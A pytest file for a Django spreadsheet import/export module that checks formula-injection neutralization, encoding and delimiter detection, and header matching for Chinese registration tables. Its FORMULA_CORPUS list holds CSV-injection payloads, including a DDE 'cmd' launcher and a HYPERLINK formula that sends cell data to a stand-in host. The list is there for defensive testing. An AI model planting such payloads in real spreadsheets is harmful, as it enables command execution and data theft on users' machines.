import csv
import io
import re
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
import xlsxwriter
from django.utils import translation

from bureau.spreadsheets import (
    Column,
    TableError,
    iter_csv,
    neutralize,
    read_rows,
    write_csv,
    write_xlsx,
    writing,
)

# security-and-reliability.md §7 T-EXP-01
FORMULA_CORPUS = [
    "=1+1",
    "==1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\ufeff=1",
    "|x",
    "%x",
    '=HYPERLINK("http://x/?"&A1,"x")',
]
COLUMNS = [
    Column(
        name="id_number", headers=("证件号码", "id_number", "ID number"), required=True
    ),
    Column(name="name", headers=("姓名", "name"), required=True),
    Column(name="phone", headers=("联系电话", "phone")),
    Column(name="birth_date", headers=("出生日期", "birth date")),
]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer)
    sheet = workbook.add_worksheet()
    date_format = workbook.add_format({"num_format": "yyyy-mm-dd"})
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if isinstance(value, date):
                sheet.write_datetime(r, c, value, date_format)
            elif value is not None:
                sheet.write(r, c, value)
    workbook.close()
    return buffer.getvalue()


def read(data: bytes, filename: str) -> list[tuple[int, dict[str, str]]]:
    return list(read_rows(io.BytesIO(data), filename=filename, columns=COLUMNS))


def test_formula_strings_exported_to_xlsx_are_text_starting_with_a_quote():
    buffer = io.BytesIO()
    rows = [[value, -5, Decimal("-12.50")] for value in FORMULA_CORPUS]

    count = write_xlsx(buffer, headers=["值", "数", "金额"], rows=rows)

    assert count == len(FORMULA_CORPUS)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert all(text.startswith("'") for text in texts)
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [-5] * len(rows)
    assert sheet["C2"].value == -12.5
    assert sheet["C2"].data_type == "n"


def test_formula_strings_exported_to_csv_start_with_a_quote_and_numbers_stay_bare():
    rows = [[value, -5] for value in FORMULA_CORPUS] + [["-5", 3]]

    data = b"".join(iter_csv(headers=["值", "数"], rows=rows))

    assert data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert parsed[0] == ["值", "数"]
    assert [row[0] for row in parsed[1:]] == [
        "'" + value for value in FORMULA_CORPUS
    ] + ["'-5"]
    assert [row[1] for row in parsed[1:]] == ["-5"] * len(FORMULA_CORPUS) + ["3"]


def test_harmless_values_are_not_changed_by_neutralize():
    assert neutralize("张三") == "张三"
    assert neutralize("a=1") == "a=1"
    assert neutralize(-5) == -5
    assert neutralize(None) is None


def test_xlsx_export_has_a_frozen_bold_header_dates_and_a_footer(tmp_path):
    target = tmp_path / "export.xlsx"

    write_xlsx(
        target,
        headers=["姓名", "出生日期"],
        rows=[["张三", date(1949, 12, 31)]],
        sheet_title="人口",
        footer="导出人 王五 2026-11-29",
    )

    sheet = openpyxl.load_workbook(target)["人口"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet["B2"].value.date() == date(1949, 12, 31)
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet["A4"].value == "导出人 王五 2026-11-29"


def test_long_exports_continue_on_a_new_sheet_with_the_header(monkeypatch, tmp_path):
    monkeypatch.setattr(writing, "MAX_DATA_ROWS_PER_SHEET", 3)
    target = tmp_path / "export.xlsx"

    count = write_xlsx(target, headers=["n"], rows=([n] for n in range(7)))

    workbook = openpyxl.load_workbook(target)
    assert count == 7
    assert workbook.sheetnames == ["Sheet1", "Sheet1 (2)", "Sheet1 (3)"]
    assert [c.value for c in workbook["Sheet1 (2)"]["A"]] == ["n", 3, 4, 5]
    assert [c.value for c in workbook["Sheet1 (3)"]["A"]] == ["n", 6]


def test_csv_export_streams_in_chunks_with_one_bom(tmp_path):
    rows = [["张三" * 50, n] for n in range(3000)]

    chunks = list(iter_csv(headers=["姓名", "n"], rows=rows))

    assert len(chunks) > 1
    assert chunks[0].startswith(b"\xef\xbb\xbf")
    assert not any(chunk.startswith(b"\xef\xbb\xbf") for chunk in chunks[1:])
    target = tmp_path / "export.csv"
    assert write_csv(target, headers=["姓名", "n"], rows=rows) == 3000
    assert target.read_bytes() == b"".join(chunks)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk"])
def test_csv_with_chinese_headers_is_read_in_any_common_encoding(encoding):
    text = "证件号码*,姓名 ,联系电话\r\n11010519491231002X, 张三 ,13812345678\r\n"

    rows = read(text.encode(encoding), "登记.csv")

    assert rows == [
        (2, {"id_number": "11010519491231002X", "name": "张三", "phone": "13812345678"})
    ]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_delimiter_is_detected(delimiter):
    text = delimiter.join(["证件号码", "姓名"]) + "\n" + delimiter.join(["1", "张三"])

    assert read(text.encode(), "a.csv") == [(2, {"id_number": "1", "name": "张三"})]


def test_xlsx_keeps_an_11_digit_phone_and_reads_dates_as_iso():
    data = xlsx_bytes(
        [
            ["证件号码", "姓名", "联系电话", "出生日期"],
            ["11010519491231002X", "张三", 13812345678, date(1949, 12, 31)],
        ]
    )

    assert read(data, "登记.xlsx") == [
        (
            2,
            {
                "id_number": "11010519491231002X",
                "name": "张三",
                "phone": "13812345678",
                "birth_date": "1949-12-31",
            },
        )
    ]


def test_english_header_aliases_match_regardless_of_case_and_spaces():
    data = xlsx_bytes([[" ID NUMBER ", "Name*"], ["11010519491231002X", "Zhang San"]])

    assert read(data, "people.XLSX") == [
        (2, {"id_number": "11010519491231002X", "name": "Zhang San"})
    ]


def test_blank_rows_are_skipped_and_row_numbers_match_the_sheet():
    data = xlsx_bytes(
        [
            ["2026年 XX镇 人口登记表"],
            ["证件号码", "姓名"],
            ["A", "甲"],
            [None, None],
            ["  ", ""],
            ["B", "乙"],
        ]
    )

    rows = read(data, "登记.xlsx")

    assert [number for number, _ in rows] == [3, 6]
    assert rows[1][1] == {"id_number": "B", "name": "乙"}


def test_missing_required_columns_are_named():
    with pytest.raises(TableError) as caught:
        read("联系电话\n13812345678\n".encode(), "a.csv")

    assert caught.value.message == "Required columns are missing: 证件号码, 姓名."


def test_a_column_given_twice_is_refused():
    with pytest.raises(TableError, match="Columns 姓名 and name both hold 姓名"):
        read("证件号码,姓名,name\n1,甲,甲\n".encode(), "a.csv")


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"", "a.csv", "The file is empty."),
        (b"\r\n,,\r\n", "a.csv", "The file is empty."),
        (b"x,y\n1,2\n", "a.csv", "No header row found"),
        (b"PK\x03\x04 broken", "a.xlsx", "The XLSX file could not be read"),
        (b"\xff\xfe\x00", "a.csv", "neither UTF-8 nor GB18030"),
        (b"a", "macro.xlsm", "Files of type .xlsm cannot be read"),
        (b"a", "README", "Files of type (no extension) cannot be read"),
    ],
)
def test_unreadable_uploads_get_a_clear_message(data, filename, message):
    with pytest.raises(TableError, match=re.escape(message)):
        read(data, filename)


def test_header_errors_are_raised_before_iteration_starts():
    with pytest.raises(TableError):
        read_rows(io.BytesIO(b"x\n1\n"), filename="a.csv", columns=COLUMNS)


def test_optional_columns_absent_from_the_file_are_absent_from_rows():
    rows = read("证件号码,姓名\n1,甲\n".encode(), "a.csv")

    assert "phone" not in rows[0][1]


def test_xlsx_written_by_write_xlsx_reads_back_unchanged():
    buffer = io.BytesIO()
    write_xlsx(
        buffer,
        headers=["证件号码", "姓名", "联系电话"],
        rows=[["11010519491231002X", "张三", 13812345678]],
    )

    assert read(buffer.getvalue(), "a.xlsx") == [
        (2, {"id_number": "11010519491231002X", "name": "张三", "phone": "13812345678"})
    ]
